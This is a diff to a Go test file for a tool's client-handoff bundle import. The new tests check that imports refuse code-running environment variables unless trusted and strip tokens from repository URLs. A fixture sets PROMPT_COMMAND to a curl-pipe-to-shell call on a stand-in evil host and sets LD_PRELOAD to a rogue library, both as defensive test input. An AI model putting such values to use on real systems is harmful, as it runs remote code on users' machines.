@@ -136,9 +136,10 @@ func TestHandoffDocumentAndBundle(t *testing.T) {
 
 	// Import on "another machine".
 	w2, _ := nhBench(t, newNHSecrets())
-	res, err := w2.ImportBundle(ctx, data, "")
+	res, err := w2.ImportBundle(ctx, data, ImportOptions{})
 	require.NoError(t, err)
 	assert.Equal(t, "acme", res.Client)
+	assert.Equal(t, []string{"REGION", "TF_WORKSPACE"}, res.Vars)
 	var secretFixes []string
 	for _, f := range res.Fixes {
 		if f.What == "secret" {
@@ -167,24 +168,95 @@ func TestHandoffDocumentAndBundle(t *testing.T) {
 	assert.Empty(t, entries, "time entries stay with the engineer")
 
 	// Same name again: refused; --as gives it a new name.
-	_, err = w2.ImportBundle(ctx, data, "")
+	_, err = w2.ImportBundle(ctx, data, ImportOptions{})
 	assert.True(t, badinput.Is(err))
 	assert.ErrorContains(t, err, "already exists: import it under another name with --as NAME")
-	res, err = w2.ImportBundle(ctx, data, "acme-old")
+	res, err = w2.ImportBundle(ctx, data, ImportOptions{As: "acme-old"})
 	require.NoError(t, err)
 	assert.Equal(t, "acme-old", res.Client)
-	_, err = w2.ImportBundle(ctx, data, "Bad Name")
+	_, err = w2.ImportBundle(ctx, data, ImportOptions{As: "Bad Name"})
 	assert.True(t, badinput.Is(err))
 }
 
 func TestImportBundleRefusesNewerVersion(t *testing.T) {
 	ctx := context.Background()
 	w, _ := nhBench(t, nil)
-	_, err := w.ImportBundle(ctx, []byte(`{"stint_bundle": 9, "client": {"slug": "x"}}`), "")
+	_, err := w.ImportBundle(ctx, []byte(`{"stint_bundle": 9, "client": {"slug": "x"}}`), ImportOptions{})
 	require.Error(t, err)
 	assert.True(t, badinput.Is(err))
 	assert.True(t, strings.Contains(err.Error(), "newer stint"), err.Error())
 	cs, err := w.Clients(ctx, true)
 	require.NoError(t, err)
 	assert.Empty(t, cs)
+}
+
+// nhBundleWith is an exported bundle of a plain client, changed by edit.
+func nhBundleWith(t *testing.T, edit func(*handoff.Bundle)) []byte {
+	t.Helper()
+	w, _ := nhBench(t, nil)
+	nhClient(t, w, "acme")
+	require.NoError(t, w.SetVars(context.Background(), "acme", []string{"REGION=eu"}))
+	doc, err := w.Handoff(context.Background(), "acme")
+	require.NoError(t, err)
+	edit(&doc.Bundle)
+	data, err := handoff.Encode(doc.Bundle)
+	require.NoError(t, err)
+	return data
+}
+
+func TestImportBundleRefusesCodeRunningVariablesUnlessTrusted(t *testing.T) {
+	ctx := context.Background()
+	evil := nhBundleWith(t, func(b *handoff.Bundle) {
+		b.Vars["PROMPT_COMMAND"] = "curl -s https://evil.invalid | sh"
+		b.Vars["LD_PRELOAD"] = "/tmp/evil.so"
+		b.Secrets = append(b.Secrets, "GIT_SSH_COMMAND")
+	})
+	w, _ := nhBench(t, newNHSecrets())
+	_, err := w.ImportBundle(ctx, evil, ImportOptions{})
+	require.Error(t, err)
+	assert.True(t, badinput.Is(err))
+	assert.Equal(t, "the bundle sets GIT_SSH_COMMAND, LD_PRELOAD, PROMPT_COMMAND, which make programs or shells run code or load libraries: import it with --trust only if you trust whoever sent it", err.Error())
+	cs, err := w.Clients(ctx, true)
+	require.NoError(t, err)
+	assert.Empty(t, cs, "nothing was written")
+
+	res, err := w.ImportBundle(ctx, evil, ImportOptions{Trust: true})
+	require.NoError(t, err)
+	assert.Equal(t, []string{"LD_PRELOAD", "PROMPT_COMMAND", "REGION"}, res.Vars)
+	p, err := w.Profile(ctx, "acme")
+	require.NoError(t, err)
+	assert.Equal(t, "/tmp/evil.so", p.Vars["LD_PRELOAD"])
+}
+
+func TestHandoffCarriesNoURLCredentials(t *testing.T) {
+	ctx := context.Background()
+	const token = "ghp_NotARealToken0123456789"
+	w, _ := nhBench(t, nil)
+	nhClient(t, w, "acme")
+	// A database written before AddRepo stripped credentials.
+	p, err := w.profile(ctx, "acme")
+	require.NoError(t, err)
+	require.NoError(t, w.db.ApplyProfileChange(ctx, p.Client.ID, store.ProfileChange{AddRepos: []store.Repo{
+		{Path: "/src/acme/api", URL: "https://x-access-token:" + token + "@github.com/acme/api.git", AddedAt: w.Now()},
+	}}))
+	doc, err := w.Handoff(ctx, "acme")
+	require.NoError(t, err)
+	data, err := handoff.Encode(doc.Bundle)
+	require.NoError(t, err)
+	for name, text := range map[string]string{"markdown": handoff.Markdown(doc), "bundle": string(data)} {
+		assert.NotContains(t, text, token, name)
+		assert.Contains(t, text, "https://github.com/acme/api.git", name)
+	}
+
+	// A bundle that carries one (another stint, or edited by hand) is
+	// imported without it.
+	withToken := nhBundleWith(t, func(b *handoff.Bundle) {
+		b.Repos = []handoff.Repo{{Path: "/src/acme/web", URL: "https://oauth2:" + token + "@gitlab.acme.io/acme/web.git"}}
+	})
+	w2, _ := nhBench(t, nil)
+	_, err = w2.ImportBundle(ctx, withToken, ImportOptions{})
+	require.NoError(t, err)
+	repos, err := w2.Repos(ctx, "acme")
+	require.NoError(t, err)
+	assert.Equal(t, []RepoInfo{{Path: "/src/acme/web", URL: "https://gitlab.acme.io/acme/web.git"}}, repos)
 }
